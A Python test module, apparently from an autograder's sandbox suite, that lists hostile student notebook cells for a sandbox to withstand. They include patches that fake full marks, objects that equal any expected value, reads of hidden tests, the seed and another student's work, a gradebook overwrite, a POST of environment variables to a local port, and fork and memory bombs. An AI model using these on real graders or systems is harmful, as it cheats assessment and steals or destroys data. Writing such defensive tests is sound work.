"""Code that would do harm if a cell of a student's were ever run. The kernel above it is wrong and stays so."""

from __future__ import annotations

from hostile.model import ANY, CANARY, FULL, MARK, NOTHING, Attack, right, wrong


def touch(name: str) -> str:
    """A statement that leaves a file."""
    return f"open({str(CANARY / name)!r}, 'w').close()"


def below(name: str, tries: str, code: str, says: str = "", earns: str = NOTHING) -> Attack:
    """A wrong answer and, below it in its cell, ``code``."""

    def cell(exercise: str) -> str:
        return f"{wrong(exercise)}\n\n{fill(code, exercise)}"

    return Attack(name, tries, exercise=ANY, cell=cell, says=says, earns=earns)


def fill(code: str, exercise: str) -> str:
    """``code`` for one exercise: NAME is its function's."""
    return code.replace("NAME", "three_pass_bytes" if exercise == "predict_bytes" else exercise)


SPAWN = f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(900)', {MARK!r}])"

NAMES_AND_BRANCHES = "".join(f"x{n} = 1\n" for n in range(2_500)) + "if y: z = 1\n" * 2_500

ATTACKS = (
    # the grader patched
    below(
        "patched check",
        "a check that gives full marks",
        "import builtins, autograder.notebook\n"
        "check = builtins.check = autograder.notebook.check = lambda *a, **k: 4.0",
    ),
    below(
        "patched judge",
        "a judge that passes everything",
        "import autograder.judge.core, autograder.report\n"
        "autograder.judge.judge = autograder.judge.core.judge = lambda *a, **k: 1 / 0\n"
        "autograder.report.Report.points = property(lambda self: 100.0)",
    ),
    below(
        "patched NumPy",
        "a NumPy in which every error is 0",
        "import numpy as np\nnp.abs = np.isfinite = np.testing.assert_allclose = lambda *a, **k: 0.0",
    ),
    below(
        "patched modules",
        "another numba",
        f"import sys\nsys.modules['numba'] = sys.modules['numba.cuda'] = type(sys)('numba')\n{touch('modules')}",
    ),
    below(
        "input transformer",
        "every cell becomes a full mark",
        "get_ipython().input_transformers_post.append(lambda lines: ['4.0\\n'])\n"
        "get_ipython().ast_transformers.append(print)",
    ),
    below("run_cell", "code through IPython", f"get_ipython().run_cell({touch('run_cell')!r})"),
    below(
        "line magics",
        "a shell",
        f"!touch {CANARY}/shell\n%system touch {CANARY}/system\n%run -i {CANARY}/x.py\nx = !id",
    ),
    # the kernel's name given to something else
    below(
        "equal to everything",
        "an object that equals every expected value",
        "class Same:\n    __eq__ = __le__ = __ge__ = lambda *a: True\n    __call__ = __getitem__ = lambda self, *a: self\n\n"
        "NAME = Same()",
        "result of a call",
    ),
    below(
        "class as kernel",
        "a class with the kernel's name",
        "class NAME:\n    points = 100\n    def __class_getitem__(cls, grid): return print",
        "is a class",
    ),
    below("number as kernel", "a mark with the kernel's name", "NAME = 4.0", "is a number"),
    below(
        "kernel set in a function",
        "a kernel that is exchanged later",
        f"def later():\n    global NAME\n    {touch('later')}\nlater()",
        "is set inside a function",
    ),
    below("kernel by exec", "a kernel that a text makes", f"exec('NAME = 1')\nglobals()['NAME'] = 2\n{touch('exec')}"),
    Attack(
        "class poses as cuda",
        "a decorator that hands out what it likes",
        cell=lambda exercise: (
            "class cuda:\n    blockIdx = None\n    jit = staticmethod(lambda f: print)\n\n\n"
            + wrong(exercise).removeprefix("from numba import cuda\n")
        ),
        says="@cuda.jit",
    ),
    Attack(
        "decorator around cuda.jit",
        "a decorator that exchanges the kernel",
        cell=lambda exercise: (
            "def forged(f):\n    return print\n\n\n" + wrong(exercise).replace("@cuda", "@forged\n@cuda")
        ),
        says="2 decorators",
    ),
    Attack(
        "patched cuda.jit",
        "a cuda.jit that runs on the host",
        cell=lambda exercise: wrong(exercise).replace(
            "\n\n\n", f"\ncuda.jit = lambda f: print\ncuda.blockIdx = 7\n{touch('jit')}\n\n\n", 1
        ),
    ),
    # what others have
    below(
        "reads the tests",
        "the hidden numbers from the checks' source",
        "import inspect\nprint(inspect.getsource(check), open(__file__).read(), In, _ih)",
    ),
    below(
        "frames and garbage",
        "the judge's own objects",
        "import gc, sys\nfor one in [*gc.get_objects(), sys._getframe(1)]:\n"
        "    if type(one).__name__ == 'Report':\n        one.points = 100.0",
    ),
    below(
        "reads the seed",
        "the hidden seed",
        f"print(open('../../seed.txt').read(), open('seed.txt').read())\n{touch('seed')}",
    ),
    below(
        "copies bob",
        "another student's answer",
        "import json\nprint(open('../../bob/lab1_three_pass/lab1_three_pass.ipynb').read())",
    ),
    below(
        "writes the gradebook",
        "marks",
        "import sqlite3\nsqlite3.connect('gradebook.db').execute('UPDATE grade SET auto_score = 100')",
    ),
    below(
        "reads the environment",
        "tokens",
        f"import os, urllib.request\n{touch('environment')}\nurllib.request.urlopen('http://127.0.0.1:9/', data=repr(os.environ).encode())",
    ),
    # the class stopped
    below(
        "exit",
        "the end of the grader",
        f"import os, sys\n{touch('exit')}\nsys.exit(0)\nos._exit(0)\nraise KeyboardInterrupt",
    ),
    below(
        "kills its parent",
        "the end of the grader",
        f"import os\n{touch('kill')}\nos.kill(os.getppid(), 9)\nos.killpg(0, 9)",
    ),
    below("fork bomb", "all processes", f"import os\n{touch('fork')}\nwhile True:\n    os.fork()"),
    below("survivor", "a process that stays", SPAWN),
    below(
        "threads and hooks",
        "code that runs later",
        f"import atexit, threading\nthreading.Thread(target=lambda: {touch('thread')}).start()\natexit.register(lambda: {touch('hook')})",
    ),
    below("memory bomb", "all memory", "held = bytearray(2**50)\nmore = [0] * 10**12\nwhile True:\n    more += more"),
    below("endless cell", "all time", "while True:\n    pass"),
    Attack(
        "slow to read",
        "all time: every branch once more with every name",
        cell=lambda exercise: f"{right(exercise)}\n\n{NAMES_AND_BRANCHES}",
        earns=FULL,
    ),
    Attack(
        "many functions",
        "all time: every function once more with the whole cell",
        cell=lambda exercise: f"{right(exercise)}\n\n" + "%time\n" * 2_000 + "def f(): 0\n" * 7_000,
        earns=FULL,
    ),
    Attack(
        "right kernel, endless cell",
        "nothing for itself: the kernel is right, and the loop below it is not run",
        cell=lambda exercise: f"{right(exercise)}\n\nwhile True:\n    pass\n",
        earns=FULL,
    ),
)
